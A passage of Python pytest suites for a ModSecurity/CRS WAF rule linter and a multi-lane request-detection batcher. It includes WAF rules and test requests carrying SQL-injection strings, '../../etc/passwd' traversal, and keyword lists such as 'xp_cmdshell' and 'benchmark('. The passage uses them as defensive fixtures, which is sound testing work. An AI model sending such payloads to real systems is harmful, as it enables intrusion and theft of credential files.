        'SecRule TX:PL "@lt 2" "id:100,phase:2,pass,skipAfter:NO-SUCH"\n'
        'SecRule ARGS "@rx evil" "id:101,phase:2,block"\n')
    findings = check_reachability(scans)
    assert "flow.dangling-marker" in _checks(findings, "error")
    assert any(f.subject == "NO-SUCH" for f in findings)


def test_flow_marker_present_clean(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@lt 2" "id:100,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:101,phase:2,block"\n'
        'SecMarker "END-T"\n')
    findings = check_reachability(scans)
    assert "flow.dangling-marker" not in _checks(findings)


def test_flow_marker_splits_chain_error(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule ARGS "@rx one" "id:200,phase:2,block,chain"\n'
        'SecMarker "MID"\n'
        '    SecRule ARGS "@rx two"\n')
    findings = check_reachability(scans)
    assert "flow.marker-splits-chain" in _checks(findings, "error")


def test_flow_unreachable_at_every_paranoia_level(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 99" '
        '"id:300,phase:2,pass,skipAfter:END-P"\n'
        'SecRule ARGS "@rx never" "id:301,phase:2,block"\n'
        'SecMarker "END-P"\n')
    findings = check_reachability(scans)
    unreachable = [f for f in findings
                   if f.check == "flow.unreachable-paranoia"]
    assert [f.rule_id for f in unreachable] == [301]


def test_flow_pl2_tier_is_reachable(tmp_path):
    """A @lt 2 gate is active at PL>=2 — NOT unreachable."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:310,phase:2,pass,skipAfter:END-P"\n'
        'SecRule ARGS "@rx pl2" "id:311,phase:2,block"\n'
        'SecMarker "END-P"\n')
    findings = check_reachability(scans)
    assert "flow.unreachable-paranoia" not in _checks(findings)


def test_flow_conditional_write_keeps_rule_reachable(tmp_path):
    """Review finding: a gate variable rewritten by a request-dependent
    SecRule is undecidable — the parser keeps the region ACTIVE, and
    the reachability sweep must agree (no false unreachable warning)."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule REQUEST_HEADERS:X-M "@streq on" "id:901,phase:1,pass,'
        "setvar:'tx.mode=2'\"\n"
        'SecRule TX:MODE "@eq 1" "id:902,phase:2,pass,skipAfter:END-X"\n'
        'SecRule ARGS "@rx x" "id:903,phase:2,block"\n'
        'SecMarker "END-X"\n')
    findings = check_reachability(scans)
    assert "flow.unreachable-paranoia" not in _checks(findings)


def test_flow_statically_folded_write_still_detects_unreachable(tmp_path):
    """Review finding (round 2): a statically-TRUE SecRule write FOLDS
    (the parser drops the gated tier at every setting), so the sweep
    must still report the tier unreachable — not abstain."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        "setvar:'tx.gate=1'\"\n"
        'SecRule TX:GATE "@eq 1" "id:902,phase:2,pass,skipAfter:END-X"\n'
        'SecRule ARGS "@rx x" "id:903,phase:2,block"\n'
        'SecMarker "END-X"\n')
    findings = check_reachability(scans)
    unreachable = [f for f in findings
                   if f.check == "flow.unreachable-paranoia"]
    assert [f.rule_id for f in unreachable] == [903]


def test_tx_statically_true_write_not_flagged_conditional(tmp_path):
    """Review finding (round 2): a statically-true SecRule write folds
    like a SecAction — tx.conditional-setvar-skip must not claim 'rules
    stay active' for a tier the parser statically skips."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        "setvar:'tx.pl=1'\"\n"
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:E"\n'
        'SecMarker "E"\n')
    findings = check_tx_dataflow(scans)
    assert "tx.conditional-setvar-skip" not in _checks(findings)


def test_flow_condition_before_write_stays_reachable(tmp_path):
    """Review finding (round 4): the sweep must evaluate conditions at
    their LOAD POINT — a SecAction write after the skip rule cannot
    retroactively take the region (the parser abstained and kept 101)."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule TX:A "@eq 2" "id:100,phase:2,pass,skipAfter:END-M"\n'
        'SecRule ARGS "@rx x" "id:101,phase:2,block"\n'
        'SecMarker "END-M"\n'
        'SecAction "id:102,phase:1,pass,nolog,setvar:tx.a=2"\n')
    findings = check_reachability(scans)
    assert "flow.unreachable-paranoia" not in _checks(findings)


def test_flow_mid_file_rewrite_detects_skip(tmp_path):
    """Converse: a statically-true control rule that rewrites the gate
    variable BEFORE jumping skips its interval at every setting — the
    sweep must see the fold in order and report 902."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@eq 1" "id:901,phase:2,pass,nolog,'
        'setvar:tx.pl=9,skipAfter:END-A"\n'
        'SecRule ARGS "@rx inskip" "id:902,phase:2,block"\n'
        'SecMarker "END-A"\n'
        'SecRule TX:PL "@lt 2" "id:903,phase:2,pass,skipAfter:END-B"\n'
        'SecRule ARGS "@rx evil" "id:904,phase:2,block"\n'
        'SecMarker "END-B"\n')
    findings = check_reachability(scans)
    unreachable = {f.rule_id for f in findings
                   if f.check == "flow.unreachable-paranoia"}
    assert 902 in unreachable    # jumped over at every PL
    assert 904 not in unreachable  # tx.pl=9 folded → tier active


def test_flow_marker_in_included_file_not_dangling(tmp_path):
    """Review finding (round 5): the parser resolves a skipAfter whose
    marker lives in the subsequently-Include'd file — no dangling error,
    and the included rules before the marker ARE skipped."""
    (tmp_path / "sub.conf").write_text(
        'SecRule ARGS "@rx a" "id:101,phase:2,block"\n'
        'SecMarker "END-X"\n'
        'SecRule ARGS "@rx b" "id:102,phase:2,block"\n')
    (tmp_path / "entry.conf").write_text(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n'
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 99" '
        '"id:100,phase:2,pass,skipAfter:END-X"\n'
        'Include sub.conf\n')
    findings = check_reachability(scan_tree(tmp_path / "entry.conf"))
    assert "flow.dangling-marker" not in _checks(findings)
    unreachable = {f.rule_id for f in findings
                   if f.check == "flow.unreachable-paranoia"}
    assert 101 in unreachable      # inside the cross-file region
    assert 102 not in unreachable  # after the marker


def test_flow_bad_paranoia_tag(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule ARGS "@rx x" "id:320,phase:2,block,'
        "tag:'paranoia-level/7'\"\n")
    findings = check_reachability(scans)
    assert "flow.bad-paranoia-tag" in _checks(findings, "warning")


# ------------------------------------------------ 3. TX/setvar dataflow


def test_tx_read_never_written(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule TX:NO_SUCH_VAR "@eq 1" "id:400,phase:2,pass,'
        'skipAfter:END"\n'
        'SecMarker "END"\n')
    findings = check_tx_dataflow(scans)
    assert "tx.read-before-write" in _checks(findings, "warning")


def test_tx_read_before_write_positional(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule TX:LATE "@eq 1" "id:410,phase:2,pass,skipAfter:E"\n'
        'SecMarker "E"\n'
        'SecAction "id:411,phase:1,pass,nolog,setvar:tx.late=1"\n')
    findings = check_tx_dataflow(scans)
    hits = [f for f in findings if f.check == "tx.read-before-write"]
    assert hits and "before its first write" in hits[0].message


def test_tx_write_then_read_clean(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:420,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule TX:MODE "@eq 1" "id:421,phase:2,pass,skipAfter:E"\n'
        'SecMarker "E"\n')
    findings = check_tx_dataflow(scans)
    assert "tx.read-before-write" not in _checks(findings)


def test_tx_dead_write_notice(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:430,phase:1,pass,nolog,setvar:tx.orphan=1"\n')
    findings = check_tx_dataflow(scans)
    dead = [f for f in findings if f.check == "tx.dead-write"]
    assert dead and dead[0].subject == "tx.orphan"
    assert dead[0].severity == "notice"


def test_tx_anomaly_family_not_dead(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule ARGS "@rx evil" "id:440,phase:2,block,'
        "setvar:'tx.anomaly_score_pl1=+5'\"\n")
    findings = check_tx_dataflow(scans)
    assert "tx.dead-write" not in _checks(findings)


def test_tx_threshold_unreachable_error(tmp_path):
    scans = _scan_text(tmp_path, "a.conf", "# empty\n")
    findings = check_tx_dataflow(scans, anomaly_threshold=1000,
                                 max_anomaly_sum=12)
    assert "tx.threshold-unreachable" in _checks(findings, "error")
    clean = check_tx_dataflow(scans, anomaly_threshold=5,
                              max_anomaly_sum=12)
    assert "tx.threshold-unreachable" not in _checks(clean)


def test_tx_anomaly_never_evaluated_needs_explicit_increments(tmp_path):
    """Only trees that opt into anomaly mode (explicit setvar
    increments) warn about a missing threshold rule — plain block
    trees use severity-fallback scores and the engine default."""
    scans = _scan_text(tmp_path, "a.conf", "# empty\n")
    warned = check_tx_dataflow(scans, anomaly_threshold=None,
                               max_anomaly_sum=9, explicit_anomaly=True)
    assert "tx.anomaly-never-evaluated" in _checks(warned, "warning")
    plain = check_tx_dataflow(scans, anomaly_threshold=None,
                              max_anomaly_sum=9, explicit_anomaly=False)
    assert "tx.anomaly-never-evaluated" not in _checks(plain)


def test_tx_conditional_setvar_skip_warning(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecRule REQUEST_HEADERS:X-M "@streq y" "id:450,phase:1,pass,'
        "setvar:'tx.mode=2'\"\n"
        'SecRule TX:MODE "@eq 2" "id:451,phase:2,pass,skipAfter:E"\n'
        'SecMarker "E"\n')
    findings = check_tx_dataflow(scans)
    assert "tx.conditional-setvar-skip" in _checks(findings, "warning")


def test_tx_load_order_follows_includes(tmp_path):
    """Review finding (round 6): load order interleaves at the Include
    point — a post-Include read of a variable written INSIDE the
    include is not read-before-write."""
    (tmp_path / "sub.conf").write_text(
        'SecAction "id:10,phase:1,pass,nolog,setvar:tx.x=1"\n')
    (tmp_path / "entry.conf").write_text(
        'Include sub.conf\n'
        'SecRule TX:X "@eq 1" "id:11,phase:2,pass,skipAfter:E"\n'
        'SecMarker "E"\n')
    findings = check_tx_dataflow(scan_tree(tmp_path / "entry.conf"))
    assert "tx.read-before-write" not in _checks(findings)


def test_static_tx_env_chain_state_is_per_file(tmp_path):
    """Review finding (round 6): a dangling chain leader at one file's
    EOF must not make the next file's first rule classify as a link."""
    from ingress_plus_tpu.analysis.scan import static_tx_env
    (tmp_path / "a.conf").write_text(
        'SecRule ARGS "@rx x" "id:20,phase:2,block,chain,'
        "setvar:'tx.z=1'\"\n")          # dangling leader
    (tmp_path / "b.conf").write_text(
        'SecAction "id:21,phase:1,pass,nolog,setvar:tx.m=1"\n'
        'SecRule TX:M "@eq 1" "id:22,phase:1,pass,nolog,'
        "setvar:'tx.q=7'\"\n")
    env, cond = static_tx_env(scan_tree(tmp_path))
    assert env.get("q") == "7"          # folded, not link-invalidated
    assert "q" not in cond


def test_tx_regex_selector_reads_matching_writes(tmp_path):
    """Review finding (round 9): the CRS ``TX:/^prefix_/`` selector
    shape reads every matching variable — no false read-before-write
    for the selector, no false dead-write for the matched names."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:30,phase:1,pass,nolog,setvar:tx.sqli_score=0"\n'
        'SecRule TX:/^sqli_/ "@gt 0" "id:31,phase:2,block"\n')
    findings = check_tx_dataflow(scans)
    assert "tx.read-before-write" not in _checks(findings)
    assert "tx.dead-write" not in _checks(findings)
    # a selector matching nothing is still worth a warning
    scans2 = _scan_text(tmp_path, "b.conf",
        'SecRule TX:/^nothing_/ "@gt 0" "id:32,phase:2,block"\n')
    findings2 = check_tx_dataflow(scans2)
    assert any(f.check == "tx.read-before-write" and "selector" in
               f.message for f in findings2)


def test_tx_conditional_write_after_read_not_flagged(tmp_path):
    """Review finding (round 4): a request-dependent write AFTER the
    skipAfter read leaves the parser's static resolution intact — no
    'rules stay active' warning for a tier the parser skips."""
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@lt 2" "id:901,phase:2,pass,skipAfter:E"\n'
        'SecRule ARGS "@rx x" "id:902,phase:2,block"\n'
        'SecMarker "E"\n'
        'SecRule REQUEST_HEADERS:X-P "@streq hi" "id:903,phase:1,pass,'
        "setvar:'tx.pl=4'\"\n")
    findings = check_tx_dataflow(scans)
    assert "tx.conditional-setvar-skip" not in _checks(findings)


# ----------------------------------------------- 4. regex hazards / ReDoS


def test_redos_nested_quantifier_detected():
    assert any(c == "regex.redos-nested-quantifier"
               for c, _ in hazards_for_pattern(parse_regex("(a+)+")))
    assert any(c == "regex.redos-nested-quantifier"
               for c, _ in hazards_for_pattern(
                   parse_regex(r"(?:[^)]{0,64},){1,}")))


def test_redos_separator_disambiguates_clean():
    """The fixed 942370 shape: the inner class excludes the separator,
    so iteration boundaries are unambiguous."""
    assert not any(c == "regex.redos-nested-quantifier"
                   for c, _ in hazards_for_pattern(
                       parse_regex(r"(?:[^),]{0,64},){1,}")))
    # cookie-jar shape: every inner repeat is separator-delimited
    assert not hazards_for_pattern(
        parse_regex(r"(?:[^=;\s]+=[^;]*;){40,}"))


def test_redos_overlapping_alternation():
    assert any(c == "regex.redos-overlapping-alternation"
               for c, _ in hazards_for_pattern(parse_regex("(?:a|ab)+")))
    assert not any(c == "regex.redos-overlapping-alternation"
                   for c, _ in hazards_for_pattern(
                       parse_regex("(?:ab|cd)+")))


def test_redos_adjacent_quantifiers_notice():
    assert any(c == "regex.redos-adjacent-quantifiers"
               for c, _ in hazards_for_pattern(parse_regex(r"\s*\s*x")))
    assert not any(c == "regex.redos-adjacent-quantifiers"
                   for c, _ in hazards_for_pattern(
                       parse_regex(r"\d+[a-z]+")))


def test_redos_findings_have_severities():
    rules = parse_seclang(
        'SecRule ARGS "@rx (?:\\w+)+$" "id:500,phase:2,block"')
    cr = compile_ruleset(rules)
    findings = check_regex_hazards(cr.rules)
    assert "regex.redos-nested-quantifier" in _checks(findings, "error")


def test_confirm_unparsable_regex_is_error():
    """The 941290/941300 shape: the tokenizer halves backslashes and the
    confirm engine rejects the resulting escape — silently dead rule."""
    rules = parse_seclang(
        'SecRule ARGS "@rx (?:\\\\u00[0-7]){4,}" "id:510,phase:2,block"')
    assert rules[0].argument == r"(?:\u00[0-7]){4,}"
    cr = compile_ruleset(rules)
    findings = check_regex_hazards(cr.rules)
    dead = [f for f in findings if f.check == "regex.confirm-unparsable"]
    assert dead and dead[0].severity == "error"


def test_degraded_construct_notice():
    rules = parse_seclang(
        'SecRule ARGS "@rx foo(?=bar)" "id:520,phase:2,block"')
    cr = compile_ruleset(rules)
    findings = check_regex_hazards(cr.rules)
    assert "regex.degraded-construct" in _checks(findings, "notice")


# ------------------------------------------ 5. transform-lane consistency


def test_lane_variant_mismatch_error():
    meta = _meta(op="rx", arg="select",
                 transforms=["htmlEntityDecode"], variant=0)
    findings = check_lanes([meta])
    assert "lane.variant-mismatch" in _checks(findings, "error")


def test_lane_unmodeled_decode_with_prefilter_error():
    meta = _meta(op="rx", arg="expression",
                 transforms=["urlDecodeUni", "cssDecode"], variant=1,
                 has_prefilter=True)
    findings = check_lanes([meta])
    assert "lane.unmodeled-decode" in _checks(findings, "error")


def test_lane_compiler_drops_unmodeled_decode_factors():
    """The compiler-side fix this lint class pins: a cssDecode rule
    compiles always-confirm (no factors over text the scan never sees)."""
    rules = parse_seclang(
        'SecRule ARGS "@rx (?i)expression\\s*\\(" '
        '"id:600,phase:2,block,t:urlDecodeUni,t:cssDecode"')
    cr = compile_ruleset(rules)
    assert cr.tables.rule_nfactors[0] == 0
    assert "lane.unmodeled-decode" not in _checks(check_lanes(cr.rules))


def test_within_compiles_confirm_only():
    rules = parse_seclang(
        'SecRule REQUEST_HEADERS:X-Proto "@within HTTP/1.0 HTTP/1.1" '
        '"id:610,phase:1,block"')
    cr = compile_ruleset(rules)
    assert cr.tables.rule_nfactors[0] == 0


def test_lane_unknown_transform_warning():
    meta = _meta(op="rx", arg="x", transforms=["urldecode"])  # typo'd case
    findings = check_lanes([meta])
    assert "lane.unknown-transform" in _checks(findings, "warning")


def test_lane_noop_transform_notice():
    meta = _meta(op="rx", arg="x", transforms=["utf8toUnicode"])
    findings = check_lanes([meta])
    assert "lane.noop-transform" in _checks(findings, "notice")


def test_lane_clean_rule_no_findings():
    rules = parse_seclang(
        'SecRule ARGS "@rx (?i)<script" '
        '"id:620,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,'
        't:lowercase"')
    cr = compile_ruleset(rules)
    assert check_lanes(cr.rules) == []


def test_compile_env_mirrors_conditional_setvar_semantics():
    """Review finding (round 7): the compile-time env must fold a
    statically-TRUE conditional SecRule's assignments (threshold
    resolution) and invalidate request-dependent ones, exactly like
    the parse-time env."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        "setvar:'tx.inbound_anomaly_score_threshold=7'\"\n"
        'SecRule TX:ANOMALY_SCORE "@ge '
        '%{tx.inbound_anomaly_score_threshold}" '
        '"id:949110,phase:2,deny,severity:CRITICAL"\n')
    cr = compile_ruleset(rules)
    assert cr.anomaly_threshold == 7
    # request-dependent write: the stale SecAction literal must NOT be
    # baked into macro expansions
    rules2 = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.lim=5"\n'
        'SecRule REQUEST_HEADERS:X-L "@streq big" "id:901,phase:1,pass,'
        "setvar:'tx.lim=50'\"\n"
        'SecRule ARGS "@contains %{tx.lim}" "id:902,phase:2,block"\n')
    cr2 = compile_ruleset(rules2)
    assert "%{" in cr2.rules[-1].confirm["arg"]   # abstains, not stale 5


def test_compile_env_sees_skip_rule_setvars():
    """Review finding (round 8): a statically-true skipAfter control
    rule's setvars execute before the jump — they must reach the
    COMPILE env too (the parser drops the control rule itself)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.lvl=1"\n'
        'SecRule TX:LVL "@eq 1" "id:901,phase:1,pass,nolog,'
        'setvar:tx.lvl=9,skipAfter:END-S"\n'
        'SecMarker "END-S"\n'
        'SecRule ARGS "@streq %{tx.lvl}" "id:902,phase:2,block"\n')
    cr = compile_ruleset(rules)
    assert cr.rules[-1].confirm["arg"] == "9"


def test_compile_time_env_honors_delete_form():
    """Review finding (round 6): the compile-time TX env must drop a
    ``setvar:!tx.name`` delete like the parse-time env does — a stale
    literal would expand %{tx.name} macros ModSecurity sees as unset."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.foo=5"\n'
        'SecAction "id:901,phase:1,pass,nolog,setvar:!tx.foo"\n'
        'SecRule ARGS "@contains %{tx.foo}" "id:902,phase:2,block"\n')
    cr = compile_ruleset(rules)
    assert "%{" in cr.rules[0].confirm["arg"]   # unresolved: abstains
    rules2 = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.foo=5"\n'
        'SecRule ARGS "@contains %{tx.foo}" "id:902,phase:2,block"\n')
    cr2 = compile_ruleset(rules2)
    assert cr2.rules[0].confirm["arg"] == "5"   # without delete: expands


# --------------------------------------------- baseline + report plumbing


def test_baseline_suppression(tmp_path):
    bl_path = tmp_path / "baseline.json"
    bl_path.write_text(json.dumps({"suppressions": [
        {"check": "regex.degraded-construct", "rule_id": 7,
         "reason": "accepted"}]}))
    bl = Baseline.load(bl_path)
    f1 = Finding(check="regex.degraded-construct", severity="notice",
                 message="m", rule_id=7)
    f2 = Finding(check="regex.degraded-construct", severity="notice",
                 message="m", rule_id=8)
    bl.apply([f1, f2])
    assert f1.suppressed and f1.suppress_reason == "accepted"
    assert not f2.suppressed


def test_baseline_auto_resolves_next_to_entry_config(tmp_path):
    """Review finding (round 3): --rules may name an entry-config FILE;
    the sibling baseline must still auto-apply."""
    (tmp_path / "r.conf").write_text(
        'SecRule ARGS "@rx foo(?=bar)" "id:70,phase:2,block"\n')
    (tmp_path / "entry.conf").write_text("Include r.conf\n")
    (tmp_path / "rulecheck-baseline.json").write_text(json.dumps(
        {"suppressions": [{"check": "regex.degraded-construct",
                           "rule_id": 70, "reason": "accepted"}]}))
    report = run_rulecheck(rules_path=tmp_path / "entry.conf")
    degraded = [f for f in report.findings
                if f.check == "regex.degraded-construct"]
    assert degraded and all(f.suppressed for f in degraded)


def test_baseline_rejects_entries_without_reason(tmp_path):
    bl_path = tmp_path / "bad.json"
    bl_path.write_text(json.dumps([{"check": "x"}]))
    with pytest.raises(BaselineError):
        Baseline.load(bl_path)


# --------------------------------- the CI gate: bundled CRS tree is clean


@pytest.fixture(scope="module")
def bundled_report():
    return run_rulecheck()


def test_bundled_crs_tree_clean_of_errors(bundled_report):
    gating = bundled_report.gating("error")
    assert gating == [], [f.to_dict() for f in gating]
    # stronger: warnings are clean too, and notices are all baselined
    assert bundled_report.counts()["warning"] == 0
    assert bundled_report.counts()["notice"] == 0


def test_bundled_report_formats(bundled_report):
    d = json.loads(bundled_report.to_json())
    assert d["tool"] == "rulecheck" and d["n_rules"] > 200
    assert d["counts"]["error"] == 0
    # no machine-specific absolute paths in reports (SARIF uri mapping)
    assert all(not f.get("file", "").startswith("/")
               for f in d["findings"])
    sarif = json.loads(bundled_report.to_sarif())
    assert sarif["version"] == "2.1.0"
    assert sarif["runs"][0]["tool"]["driver"]["name"] == "rulecheck"
    suppressed = [r for r in sarif["runs"][0]["results"]
                  if r.get("suppressions")]
    assert suppressed, "baselined findings must carry SARIF suppressions"
    text = bundled_report.to_text()
    assert "0 error" in text


def test_cli_exits_zero_on_bundled_tree(tmp_path, capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    out = tmp_path / "rc.json"
    assert main(["--format", "json", "--output", str(out)]) == 0
    assert json.loads(out.read_text())["counts"]["error"] == 0
    capsys.readouterr()


def test_cli_fails_on_dirty_tree(tmp_path, capsys):
    (tmp_path / "bad.conf").write_text(
        'SecRule ARGS "@rx (?:\\\\u00[0-7]){4,}" "id:1,phase:2,block"\n')
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--rules", str(tmp_path), "--format", "json"]) == 1
    capsys.readouterr()


def test_cli_reports_seclang_errors_cleanly(tmp_path, capsys):
    """A malformed tree exits 2 with the tool's own diagnostic, not a
    traceback (review finding)."""
    (tmp_path / "broken.conf").write_text('SecRule ARGS\n')
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--rules", str(tmp_path)]) == 2
    assert "rulecheck:" in capsys.readouterr().err


def test_dbg_rulecheck_smoke(capsys):
    from ingress_plus_tpu.control.dbg import main
    assert main(["rulecheck"]) == 0
    assert "rulecheck:" in capsys.readouterr().out
