"""Mesh-scale data-parallel serving (serve/lanes.py + the batcher's
double-buffered lane loop, docs/MESH_SERVING.md).

Covers the ISSUE 7 acceptance criteria on the virtual 8-device CPU
mesh (conftest): N-lane dispatch of a shuffled corpus is byte-identical
to the single-lane path (oversized side-lane and stream sticky-verdict
requests included, streams pinned to ONE lane), a fault targeted at one
lane degrades capacity only, steady-state serving never recompiles,
per-device observability surfaces in /metrics and /healthz, hot-swap
replays every lane's warm shapes, and the PR 5 guarded rollout stays
generation-correct across lanes.
"""

import asyncio
import json
import random
import threading
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.batcher import Batcher
from ingress_plus_tpu.serve.lanes import CircuitBreaker, Lane, LanePool
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils import faults
from ingress_plus_tpu.utils.faults import FaultPlan

RULES = """
SecRule ARGS|REQUEST_BODY "@rx (?i)union\\s+select" "id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_BODY "@rx (?i)<script[^>]*>" "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS "@rx /etc/(?:passwd|shadow)" "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@pm sleep( benchmark( xp_cmdshell" "id:942150,phase:2,block,severity:ERROR,tag:'attack-sqli'"
"""


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


def _corpus(n=48, seed=7):
    """Mixed benign/attack requests with bodies, unique ids."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        kind = i % 4
        if kind == 0:
            r = Request(uri="/p?q=1%27%20UNION%20SELECT%20x%20FROM%20t",
                        headers={}, body=b"", request_id="atk-sqli-%d" % i)
        elif kind == 1:
            r = Request(uri="/login", headers={"content-type":
                                               "application/x-www-form-urlencoded"},
                        body=b"user=a&pass=" + bytes(
                            rng.randrange(97, 123) for _ in
                            range(rng.randrange(4, 200))),
                        request_id="benign-post-%d" % i)
        elif kind == 2:
            r = Request(uri="/p?f=../../etc/passwd", headers={},
                        body=b"", request_id="atk-lfi-%d" % i)
        else:
            r = Request(uri="/index.html?page=%d" % i, headers={},
                        body=b"", request_id="benign-get-%d" % i)
        out.append(r)
    return out


def _vt(v):
    return (v.attack, v.blocked, tuple(v.rule_ids), v.score,
            tuple(v.classes), v.fail_open, v.degraded)


def _serve_all(batcher, requests, timeout=60):
    futs = [batcher.submit(r) for r in requests]
    return {r.request_id: f.result(timeout=timeout)
            for r, f in zip(requests, futs)}


def _mk(cr, n_lanes, **kw):
    kw.setdefault("max_batch", 16)
    kw.setdefault("max_delay_s", 0.001)
    p = DetectionPipeline(cr, mode="block")
    return Batcher(p, n_lanes=n_lanes, **kw)


# ------------------------------------------------------------- units

def test_lane_pool_split_balances_by_weight_and_caps_canary():
    pool = LanePool(n_lanes=3)
    targets = [(pool.lane(0), "device"), (pool.lane(1), "device"),
               (pool.lane(2), "canary")]
    items = list(range(30))
    shares = LanePool.split(items, targets, weight=lambda i: 1)
    # canary lane capped at 4; the rest balances over the device lanes
    assert len(shares[2]) <= 4
    assert abs(len(shares[0]) - len(shares[1])) <= 1
    assert sorted(sum(shares, [])) == items   # exactly-once partition
    # byte weighting: one huge item must not be joined by everything else
    shares = LanePool.split([1000, 1, 1, 1, 1, 1], targets[:2],
                            weight=lambda w: w)
    big = 0 if 1000 in shares[0] else 1
    assert len(shares[1 - big]) == 5
    pool.close()


def test_fault_plan_lane_targeting():
    plan = FaultPlan.from_spec("dispatch_raise:lane=1,times=2")
    try:
        faults.set_current_lane(0)
        assert plan.fire("dispatch_raise") is None     # wrong lane
        faults.set_current_lane(1)
        assert plan.fire("dispatch_raise") is not None
        assert plan.fire("dispatch_raise") is not None
        assert plan.fire("dispatch_raise") is None     # times exhausted
        snap = plan.snapshot()
        assert snap["rules"][0]["lane"] == 1
        assert snap["rules"][0]["fired"] == 2
    finally:
        faults.set_current_lane(None)


def test_breaker_reexported_from_batcher():
    # PR 4 consumers import CircuitBreaker from the batcher module
    from ingress_plus_tpu.serve import batcher as batcher_mod

    assert batcher_mod.CircuitBreaker is CircuitBreaker
    b = _mk(compile_ruleset(parse_seclang(RULES)), n_lanes=1)
    try:
        assert b.breaker is b.lanes.primary.breaker
        assert b.device_available()
    finally:
        b.close()


# ----------------------------------------------------------- parity

def test_nlane_verdict_parity_with_single_lane(cr):
    """The ISSUE 7 property: an N-lane dispatch of a shuffled corpus
    produces byte-identical verdicts to the single-lane path —
    including an oversized request that rides the side lane."""
    reqs = _corpus(48)
    # oversized: attack buried past the 16KB batch tier, auto-rerouted
    # through the stream-engine side lane in both modes
    big = (b"x=" + b"A" * (Batcher.OVERSIZE_THRESHOLD + 512)
           + b"&q=1 union select passwords")
    reqs.append(Request(uri="/upload", headers={}, body=big,
                        request_id="atk-oversized"))

    b1 = _mk(cr, n_lanes=1)
    try:
        want = {rid: _vt(v) for rid, v in _serve_all(b1, reqs).items()}
        assert b1.stats.oversized_rerouted == 1
    finally:
        b1.close()
    assert want["atk-oversized"][0]        # the buried attack was seen
    assert any(w[0] for w in want.values())
    assert not all(w[0] for w in want.values())

    shuffled = list(reqs)
    random.Random(3).shuffle(shuffled)
    b4 = _mk(cr, n_lanes=4)
    try:
        got = {rid: _vt(v) for rid, v in
               _serve_all(b4, shuffled).items()}
        assert b4.stats.oversized_rerouted == 1
        # the work genuinely sharded: more than one lane served rows
        served = [ln for ln in b4.lanes.lanes if ln.stats.requests]
        assert len(served) > 1
    finally:
        b4.close()
    assert got == want


def test_stream_sticky_verdict_pinned_to_one_lane(cr):
    """Streaming bodies produce the same sticky verdict on a mesh pool,
    and ALL stream scan work rides exactly one lane (chunk-carried scan
    state must never interleave across devices)."""
    def run_stream(b):
        h = b.begin_stream(Request(uri="/post", headers={},
                                   request_id="stream-1"))
        b.feed_chunk(h, b"q=1 uni")
        time.sleep(0.05)              # force a chunk-boundary cycle
        b.feed_chunk(h, b"on select 2")
        return b.finish_stream(h).result(timeout=30)

    b1 = _mk(cr, n_lanes=1)
    try:
        want = _vt(run_stream(b1))
    finally:
        b1.close()
    b3 = _mk(cr, n_lanes=3)
    try:
        got = _vt(run_stream(b3))
        lanes_used = [ln.index for ln in b3.lanes.lanes
